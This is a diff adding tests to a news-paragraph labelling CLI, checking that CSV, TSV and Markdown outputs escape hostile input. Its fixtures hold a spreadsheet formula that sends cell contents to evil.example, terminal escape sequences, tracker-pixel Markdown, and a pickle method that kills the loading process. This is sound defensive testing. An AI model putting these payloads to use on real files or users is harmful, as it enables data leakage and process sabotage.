@@ -10,6 +10,7 @@ from __future__ import annotations
 import errno
 import json
 import os
+import types
 import zipfile
 from pathlib import Path
 
@@ -23,9 +24,9 @@ from typer.testing import CliRunner
 
 from newsseg import api, cli, dataset
 from newsseg.cli import app
-from newsseg.errors import InputError
+from newsseg.errors import InputError, WorkerLostError
 from newsseg.features import MAX_CHARS
-from newsseg.model import load_model
+from newsseg.model import ParagraphLabeler, load_model
 
 runner = CliRunner()
 
@@ -674,3 +675,469 @@ def test_readers_any_unicode(scratch, text, suffix):
         else:
             assert list(frame.columns) == dataset.COLUMNS
             assert (frame["text"] != "").all()
+
+
+# --------------------------------------------------------------------------- round two (#15)
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-3+4", "@SUM(A1)"]
+
+
+def csv_cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_predictions_neutralise_formulas(tmp_path, tiny_model_path):
+    page = tmp_path / "=cmd.txt"
+    page.write_text("Council approves new bridge\n" + "\n".join(FORMULAS) + "\n", encoding="utf-8")
+    result = run("predict", page, *model_args(tiny_model_path), "--format", "csv", "--proba")
+    assert result.exit_code == 0, result.output
+    header, *rows = csv_cells(result.stdout)
+    texts = [row[header.index("text")] for row in rows]
+    assert texts[1:] == ["'" + formula for formula in FORMULAS]
+    assert {row[header.index("doc_id")] for row in rows} == {"'=cmd"}
+    for row in rows:  # numbers stay numbers
+        assert all(float(row[header.index(f"proba_{label}")]) >= 0 for label in ("body", "legal"))
+    out = tmp_path / "out"
+    result = run("predict", page, *model_args(tiny_model_path), "--format", "csv", "-o", out)
+    assert result.exit_code == 0, result.output
+    cells = csv_cells((out / "=cmd.csv").read_text(encoding="utf-8"))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
+
+
+def test_errors_csv_neutralises_formulas(tmp_path, tiny_model_path):
+    labeled = tmp_path / "page.tsv"
+    # Labels the model cannot all get right: every line is called legal.
+    labeled.write_text("".join(f"legal\t{text}\n" for text in FORMULAS), encoding="utf-8")
+    report = tmp_path / "report"
+    result = run("evaluate", labeled, *model_args(tiny_model_path), "--report", report)
+    assert result.exit_code == 0, result.output
+    header, *rows = csv_cells((report / "errors.csv").read_text(encoding="utf-8"))
+    assert rows
+    texts = [row[header.index("text")] for row in rows]
+    assert all(text in ["'" + formula for formula in FORMULAS] for text in texts), texts
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+@pytest.mark.parametrize(
+    ("content", "fragment"),
+    [
+        (
+            "doc_id,text\nd,Title,extra field\nd,Body\n",
+            "table.csv:2: 3 field(s), but the header has 2",
+        ),
+        ("doc_id,text\nd,Title\nd,Body,extra\n", "table.csv:3: 3 field(s)"),
+        ("doc_id,text\nd,Title\nd\n", "table.csv:3: 1 field(s), but the header has 2"),
+        ('doc_id,text\nd,"Two\nlines"\n\nd,Body,extra\n', "table.csv:5: 3 field(s)"),
+        ("doc_id,text,text\nd,Title,Body\n", "table.csv:1: column(s) named twice: text"),
+    ],
+)
+def test_csv_row_with_a_wrong_field_count(tmp_path, tiny_model_path, content, fragment):
+    table = tmp_path / "table.csv"
+    table.write_text(content, encoding="utf-8")
+    assert_one_line_error(run("predict", table, *model_args(tiny_model_path)), fragment)
+
+
+def test_csv_line_numbers_count_the_lines_of_quoted_fields(tmp_path):
+    table = tmp_path / "table.csv"
+    table.write_text('doc_id,text\nd,"Two\nlines"\n\nd,Third\n', encoding="utf-8")
+    frame = dataset.read_input(table, labeled=False)
+    assert frame["text"].tolist() == ["Two lines", "Third"]
+    assert frame["line"].tolist() == [2, 5]
+
+
+def test_long_doc_ids_get_short_names_with_a_stable_hash(tmp_path, tiny_model_path):
+    long_ids = ["é" * 150 + "-a", "é" * 150 + "-b", "x" * 300]  # 302 and 300 bytes
+    table = tmp_path / "table.jsonl"
+    rows = [{"doc_id": doc_id, "text": f"Title of {doc_id[-1]}"} for doc_id in long_ids]
+    rows.append({"doc_id": "short", "text": "Title"})
+    table.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    out = tmp_path / "out"
+    result = run("predict", table, *model_args(tiny_model_path), "-o", out, "--format", "jsonl")
+    assert result.exit_code == 0, result.output
+    written = names(out)
+    assert len(written) == 4 and "short.jsonl" in written
+    assert all(len(name.encode()) <= api.MAX_STEM_BYTES + len(".jsonl") for name in written)
+    for name in written:  # each file holds its own document
+        record = json.loads((out / name).read_text(encoding="utf-8"))
+        assert name.startswith(record["doc_id"][:20])
+    # The names are the same on every run: --force overwrites them, no new files appear.
+    result = run("predict", table, *model_args(tiny_model_path), "-o", out, "--format", "jsonl")
+    assert_one_line_error(result, "exists; use --force")
+    args = ["-o", out, "--format", "jsonl", "--force"]
+    assert run("predict", table, *model_args(tiny_model_path), *args).exit_code == 0
+    assert names(out) == written
+
+
+def test_a_long_file_name_gets_a_short_output_name(tmp_path, tiny_model_path):
+    page = tmp_path / ("p" * 250 + ".txt")  # its output's temporary file would be too long
+    page.write_text(DUMP, encoding="utf-8")
+    out = tmp_path / "out"
+    result = run("predict", page, *model_args(tiny_model_path), "-o", out)
+    assert result.exit_code == 0, result.output
+    [name] = names(out)
+    assert name.startswith("p" * 100) and name.endswith(".tsv") and len(name) < 255 - 10
+
+
+INVISIBLE = "\u200b\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e \u3000"
+
+
+def test_lines_of_invisible_characters_are_blank(tmp_path, tiny_model_path):
+    page = tmp_path / "page.txt"
+    page.write_text(f"{INVISIBLE}\nCouncil approves new bridge\n\u200b\nBody\n", encoding="utf-8")
+    result = run("predict", page, *model_args(tiny_model_path), "--format", "jsonl")
+    assert result.exit_code == 0, result.output
+    records = [json.loads(line) for line in result.stdout.splitlines()]
+    assert [(r["line"], r["text"]) for r in records] == [
+        (2, "Council approves new bridge"),
+        (4, "Body"),
+    ]
+    assert records[0]["label"] == "headline"
+    labeled = tmp_path / "page.tsv"
+    labeled.write_text(f"\u200b\u200b\nheadline\tTitle\nbody\t{INVISIBLE}\n", encoding="utf-8")
+    assert dataset.read_input(labeled, labeled=True)["text"].tolist() == ["Title"]
+    table = tmp_path / "table.csv"
+    table.write_text(f"doc_id,text\nd,{INVISIBLE}\nd,Title\n", encoding="utf-8")
+    assert dataset.read_input(table, labeled=False)["line"].tolist() == [3]
+    assert dataset.split_dump("\u200b\nTitle\n") == ["Title"]
+
+
+def test_folders_nested_1500_deep(tmp_path, tiny_model_path):
+    levels = [tmp_path]
+    try:
+        for _ in range(1500):  # one at a time: mkdir(parents=True) recurses too
+            levels.append(levels[-1] / "d")
+            levels[-1].mkdir()
+        deep = levels[-1]
+        (deep / "page.txt").write_text(DUMP, encoding="utf-8")
+        (tmp_path / "top.txt").write_text(DUMP, encoding="utf-8")
+        found = dataset.expand_paths([tmp_path], (".txt",))
+        assert found == [deep / "page.txt", tmp_path / "top.txt"]
+        result = run("predict", tmp_path, *model_args(tiny_model_path))
+        assert result.exit_code == 0, result.output
+        assert len(result.stdout.split("\n\n")) == 2
+    finally:  # bottom up: pytest's clean-up (shutil.rmtree) recurses, and would fail
+        (levels[-1] / "page.txt").unlink(missing_ok=True)
+        for folder in reversed(levels[1:]):
+            folder.rmdir()
+
+
+def test_broken_links_and_fifos_in_a_folder_are_bad_inputs(tmp_path, tiny_model_path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "a_good.txt").write_text(DUMP, encoding="utf-8")
+    (folder / "b_broken.txt").symlink_to(tmp_path / "gone.txt")
+    os.mkfifo(folder / "c_fifo.txt")
+    (folder / "d_good.txt").symlink_to(folder / "a_good.txt")
+    (folder / "e_folder.txt").symlink_to(tmp_path, target_is_directory=True)  # not followed
+    out = tmp_path / "out"
+    result = run("predict", folder, *model_args(tiny_model_path), "-o", out)
+    assert result.exit_code == 1
+    assert names(out) == ["a_good.tsv", "d_good.tsv"]
+    errors = [line for line in result.stderr.splitlines() if line.startswith("newsseg: error:")]
+    assert len(errors) == 2, result.stderr
+    assert "b_broken.txt: broken symbolic link" in errors[0]
+    assert "c_fifo.txt: not a regular file" in errors[1]
+    # train and evaluate stop at the first one.
+    (folder / "f.tsv").symlink_to(tmp_path / "gone.tsv")
+    assert_one_line_error(run("train", folder, "-o", tmp_path / "m.skops"), "f.tsv: broken")
+    result = run("predict", folder / "b_broken.txt", *model_args(tiny_model_path))
+    assert_one_line_error(result, "b_broken.txt: broken symbolic link")
+
+
+def test_a_pipe_named_on_the_command_line_is_read(tmp_path, tiny_model_path):
+    # What the shell passes for <(cat page.txt): /dev/fd/N, a pipe.
+    read_end, write_end = os.pipe()
+    os.write(write_end, DUMP.encode("utf-8"))
+    os.close(write_end)
+    try:
+        result = run("predict", f"/dev/fd/{read_end}", *model_args(tiny_model_path))
+    finally:
+        os.close(read_end)
+    assert result.exit_code == 0, result.output
+    assert len(result.stdout.strip().splitlines()) == 4
+
+
+@pytest.mark.parametrize("kind", ["jsonl", "csv"])
+def test_a_bad_line_in_a_large_table_keeps_the_documents_before_it(
+    tmp_path, tiny_model_path, monkeypatch, kind
+):
+    monkeypatch.setattr(api, "STREAM_TABLE_BYTES", 0)  # read in chunks, as a large table is
+    rows = [(doc_id, f"Paragraph {n} of {doc_id}") for doc_id in "abc" for n in range(3)]
+    table = tmp_path / f"table.{kind}"
+    if kind == "jsonl":
+        lines = [json.dumps({"doc_id": d, "text": t}) for d, t in rows]
+        lines += ["{not json", json.dumps({"doc_id": "d", "text": "After"})]
+    else:
+        lines = ["doc_id,text", *(f"{d},{t}" for d, t in rows), "c,one,field too many", "d,After"]
+    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = tmp_path / "out"
+    result = run("predict", table, *model_args(tiny_model_path), "-o", out)
+    assert result.exit_code == 1
+    assert result.stderr.splitlines() == [
+        f"wrote 2 file(s) to {out}",
+        result.stderr.splitlines()[1],
+    ]
+    bad_line = 10 if kind == "jsonl" else 11  # after the CSV's header
+    assert result.stderr.splitlines()[1].startswith(f"newsseg: error: {table}:{bad_line}: ")
+    # c may go on after the bad line: only the documents wholly before it are written.
+    assert names(out) == ["a.tsv", "b.tsv"]
+    assert (out / "b.tsv").read_text(encoding="utf-8").count("\n") == 3
+
+
+def test_parquet_text_of_bytes_is_decoded(tmp_path, tiny_model_path):
+    pa = pytest.importorskip("pyarrow", reason="Parquet needs pyarrow")
+    import pyarrow.parquet as pq
+
+    texts = [b"Council approves new bridge", "Café society".encode()]
+    good = tmp_path / "good.parquet"
+    pq.write_table(pa.table({"doc_id": [b"d", b"d"], "text": pa.array(texts, pa.binary())}), good)
+    frame = dataset.read_input(good, labeled=False)
+    assert frame["text"].tolist() == ["Council approves new bridge", "Café society"]
+    assert frame["doc_id"].tolist() == ["d", "d"]
+    latin = tmp_path / "latin.parquet"
+    latin_texts = [b"Headline", "Café".encode("latin-1")]
+    pq.write_table(
+        pa.table({"doc_id": ["d", "d"], "text": pa.array(latin_texts, pa.binary())}), latin
+    )
+    result = run("predict", latin, *model_args(tiny_model_path))
+    assert_one_line_error(result, "latin.parquet:2: column 'text': cannot decode byte 0xe9")
+    result = run("predict", latin, *model_args(tiny_model_path), "--encoding", "latin-1")
+    assert result.exit_code == 0, result.output
+    assert result.stdout.splitlines()[1].endswith("\tCafé")
+
+
+@pytest.mark.parametrize("name", ["table.csv", "table.jsonl", "page.txt"])
+def test_a_codec_that_gives_no_text_is_an_unknown_encoding(tmp_path, tiny_model_path, name):
+    path = tmp_path / name
+    path.write_text('{"doc_id": "d", "text": "Title"}\n', encoding="utf-8")
+    result = run("predict", path, *model_args(tiny_model_path), "--encoding", "rot13")
+    assert_one_line_error(result, f"{name}: unknown encoding 'rot13'")
+
+
+def test_control_characters_in_file_names_are_escaped_in_errors(tmp_path, tiny_model_path):
+    bad = tmp_path / "\x1b[31mred\u202eevil.txt"
+    bad.write_bytes(b"Title\nCaf\xe9\n")
+    message = assert_one_line_error(run("predict", bad, *model_args(tiny_model_path)), ":2:")
+    assert "\x1b" not in message and "\u202e" not in message
+    assert "\\x1b[31mred\\u202eevil.txt:2: cannot decode" in message
+
+
+def test_control_characters_in_text_are_escaped_in_tsv(tmp_path, tiny_model_path):
+    page = tmp_path / "page.txt"
+    page.write_text("Title\nBody \x1b[2J\x1b]0;owned\x07 text\rmore\tand a tab\n", encoding="utf-8")
+    result = run("predict", page, *model_args(tiny_model_path))
+    assert result.exit_code == 0, result.output
+    _, text = result.stdout.splitlines()[1].split("\t", 1)
+    assert text == "Body \\x1b[2J\\x1b]0;owned\\x07 text\\rmore\tand a tab"
+    result = run("predict", page, *model_args(tiny_model_path), "--format", "jsonl")
+    assert json.loads(result.stdout.splitlines()[1])["text"].startswith("Body \x1b[2J")
+
+
+MARKDOWN_TRAPS = [
+    "![pixel](http://tracker.example/p.png?id=1) **bold** [link](http://evil.example)",
+    "<img src=x> `code` _under_ www.evil.example me@evil.example | pipe",
+]
+
+
+def test_report_md_shows_paragraph_text_as_text(tmp_path, tiny_model_path):
+    labeled = tmp_path / "page.tsv"
+    labeled.write_text("".join(f"legal\t{text}\n" for text in MARKDOWN_TRAPS), encoding="utf-8")
+    folder = tmp_path / "report"
+    result = run("evaluate", labeled, *model_args(tiny_model_path), "--report", folder)
+    assert result.exit_code == 0, result.output
+    markdown = (folder / "report.md").read_text(encoding="utf-8")
+    assert "tracker" in markdown  # the misclassified paragraphs are shown ...
+    for trap in ["![pixel](", "**bold**", "[link](", "<img", "`code`", "_under_", "http://"]:
+        assert trap not in markdown, trap  # ... but none of them renders as Markdown
+    assert "www.evil" not in markdown and "me@evil" not in markdown  # no autolinks either
+    assert "\\!\\[pixel\\]\\(http\\://tracker.example/p.png?id=1\\)" in markdown
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"cv": [1, 2], "ablation": "none"},
+        {"training_data": "lots", "labels": 5, "saved": 3, "newsseg_version": ["0.4"]},
+        {"training_data": {"label_counts": ["body"], "documents": "12"}},
+        {"cv": {"folds": 5, "group_by": "site", "per_fold": {"macro_f1": 0.9}}},
+        {"ablation": {"folds": 5, "group_by": "site", "variants": [{"variant": "x"}]}},
+    ],
+)
+def test_inspect_a_model_whose_metadata_has_wrong_types(tmp_path, tiny_model_path, changes):
+    metadata = json.loads(tiny_metadata(tiny_model_path))
+    metadata.update(changes)
+    odd = tmp_path / "odd.skops"
+    copy_with_metadata(tiny_model_path, odd, json.dumps(metadata).encode())
+    result = run("inspect", odd, "--json", tmp_path / "info.json")
+    assert result.exit_code == 0, result.output
+    warnings = [line for line in result.stdout.splitlines() if line.startswith("warning")]
+    assert len(warnings) == len(changes)
+    for name in changes:
+        assert any(f"'{name}'" in line for line in warnings), (name, warnings)
+    info = json.loads((tmp_path / "info.json").read_text(encoding="utf-8"))
+    assert len(info["metadata_problems"]) == len(changes)
+    assert "strongest text features towards body" in result.stdout
+
+
+def test_inspect_of_a_well_formed_model_has_no_warning(tiny_model_path):
+    result = run("inspect")  # the shipped default model
+    assert result.exit_code == 0, result.output
+    assert "warning" not in result.stdout
+    assert api.inspect_model(tiny_model_path)["metadata_problems"] == []
+
+
+@pytest.mark.parametrize(
+    ("address", "fragment"),
+    [
+        ("tls://127.0.0.1:9", "tls:// needs the client's certificates"),
+        ("ucx://127.0.0.1:9", "ucx:// needs UCX support"),
+        ("nope://127.0.0.1:9", "unknown address scheme 'nope'"),
+    ],
+)
+def test_dask_schedulers_of_other_schemes_are_one_line(dump, tiny_model_path, address, fragment):
+    pytest.importorskip("distributed", reason="needs newsseg[dask]")
+    result = run("predict", dump, *model_args(tiny_model_path), "--dask-scheduler", address)
+    assert_one_line_error(result, f"cannot reach the Dask scheduler at {address}: {fragment}")
+
+
+def test_sigterm_during_a_write_leaves_no_temporary_file(
+    dump, tmp_path, tiny_model_path, monkeypatch
+):
+    import signal
+
+    caught = []  # without newsseg's own handler, this one would take the signal
+    previous = signal.signal(signal.SIGTERM, lambda *_: caught.append("not newsseg"))
+    real_replace = os.replace
+
+    def terminated_while_writing(source, target):
+        os.kill(os.getpid(), signal.SIGTERM)
+        return real_replace(source, target)
+
+    monkeypatch.setattr(os, "replace", terminated_while_writing)
+    out = tmp_path / "out"
+    try:
+        result = run("predict", dump, *model_args(tiny_model_path), "-o", out)
+        handler_after = signal.getsignal(signal.SIGTERM)
+    finally:
+        signal.signal(signal.SIGTERM, previous)
+    assert caught == []
+    assert result.exit_code == 130 and "Traceback" not in result.output  # as Ctrl-C ends it
+    assert names(out) == []  # neither page.tsv nor .page.tsv.XXXX
+    assert handler_after is not None and handler_after is not cli._interrupt  # restored
+
+
+class DiesAfter:
+    """An executor (see :class:`newsseg.api.Executor`) whose worker dies on batch ``n``."""
+
+    reads_files = True
+    batch_bytes = 1  # one input a batch
+
+    def __init__(self, n: int) -> None:
+        self.n = n
+
+    def map(self, work, tasks, model):
+        for number, task in enumerate(tasks):
+            if number == self.n:
+                raise WorkerLostError("a test worker died")
+            yield work(task, model)
+
+
+@pytest.fixture()
+def three_pages(tmp_path) -> list[Path]:
+    pages = []
+    for name in ("a", "b", "c"):
+        pages.append(tmp_path / f"{name}.txt")
+        pages[-1].write_text(DUMP, encoding="utf-8")
+    return pages
+
+
+def test_a_dying_worker_names_the_inputs_not_written(three_pages, tmp_path, tiny_model_path):
+    out = tmp_path / "out"
+    missing = tmp_path / "missing.txt"
+    paths = [*three_pages, missing]
+    labeler = load_model(tiny_model_path)[0]
+    run_ = api.predict(paths, labeler, output_dir=out, executor=DiesAfter(1))
+    assert names(out) == ["a.tsv"]  # written before, and whole
+    assert (out / "a.tsv").read_text(encoding="utf-8").count("\n") == 4
+    *bad, lost = [str(error) for error in run_.failed]
+    assert bad == [f"{missing}: no such file or folder"]
+    assert lost == f"a test worker died; not written: {three_pages[1]}, {three_pages[2]}"
+    with pytest.raises(WorkerLostError, match=r"not written: .*b\.txt"):
+        api.predict(
+            paths, labeler, output_dir=tmp_path / "o2", executor=DiesAfter(1), fail_fast=True
+        )
+
+
+def test_a_dying_worker_names_a_table_written_in_part(tmp_path, tiny_model_path, monkeypatch):
+    monkeypatch.setattr(api, "STREAM_TABLE_BYTES", 0)  # read here in chunks
+    monkeypatch.setattr(dataset, "TABLE_CHUNK_ROWS", 2)
+    table = tmp_path / "table.jsonl"
+    rows = [{"doc_id": d, "text": f"Paragraph of {d}"} for d in "abcdef" for _ in range(2)]
+    table.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    labeler = load_model(tiny_model_path)[0]
+    out = tmp_path / "out"
+    run_ = api.predict([table], labeler, output_dir=out, executor=DiesAfter(2))
+    assert names(out) == ["a.tsv", "b.tsv"]
+    assert str(run_.failed[-1]) == (
+        f"a test worker died; not written: none; written in part (the documents before it): {table}"
+    )
+
+
+class KillsItsWorker(ParagraphLabeler):
+    """A model whose copy kills the worker process that loads it, as the OOM killer would."""
+
+    def __reduce_ex__(self, protocol):
+        return (os._exit, (9,))
+
+
+def test_a_killed_jobs_worker_is_one_line(three_pages, tmp_path, tiny_model_path, monkeypatch):
+    fitted = load_model(tiny_model_path)[0]
+    doomed = KillsItsWorker()
+    doomed.__dict__.update(fitted.__dict__)
+    monkeypatch.setattr(api, "load_model", lambda *args, **kwargs: doomed)
+    out = tmp_path / "out"
+    result = run("predict", *three_pages, "-o", out, "--jobs", "2")
+    message = assert_one_line_error(result, "a --jobs worker process died", "not written: ")
+    assert all(str(page) in message for page in three_pages)
+    assert not out.exists() or names(out) == []
+
+
+@pytest.mark.parametrize("lost", ["worker", "scheduler", "connection"])
+def test_a_lost_dask_worker_is_a_lost_worker(tiny_model_path, lost):
+    pytest.importorskip("distributed", reason="needs newsseg[dask]")
+    from distributed import KilledWorker
+    from distributed.client import FutureCancelledError
+    from distributed.comm import CommClosedError
+
+    from newsseg.distributed import DaskExecutor
+
+    worker = types.SimpleNamespace(address="tcp://10.0.0.1:4000")
+    error, expected = {
+        "worker": (KilledWorker("label_task-1", worker, 3), r"Dask workers died .*10\.0\.0\.1"),
+        "scheduler": (FutureCancelledError("label_task-1", "scheduler-connection-lost"), "lost"),
+        "connection": (CommClosedError("in <TCP>: Stream is closed"), "Stream is closed"),
+    }[lost]
+
+    class Future:
+        def result(self):
+            raise error
+
+        def cancel(self):
+            pass
+
+    class Client:
+        def scatter(self, *args, **kwargs):
+            return "model"
+
+        def scheduler_info(self):
+            return {"workers": {"tcp://10.0.0.1:4000": {}}}
+
+        def submit(self, *args, **kwargs):
+            return Future()
+
+    results = DaskExecutor(Client()).map(lambda task, model: [], iter([[(0, "a.txt")]]), None)
+    with pytest.raises(WorkerLostError, match=expected):
+        next(results)
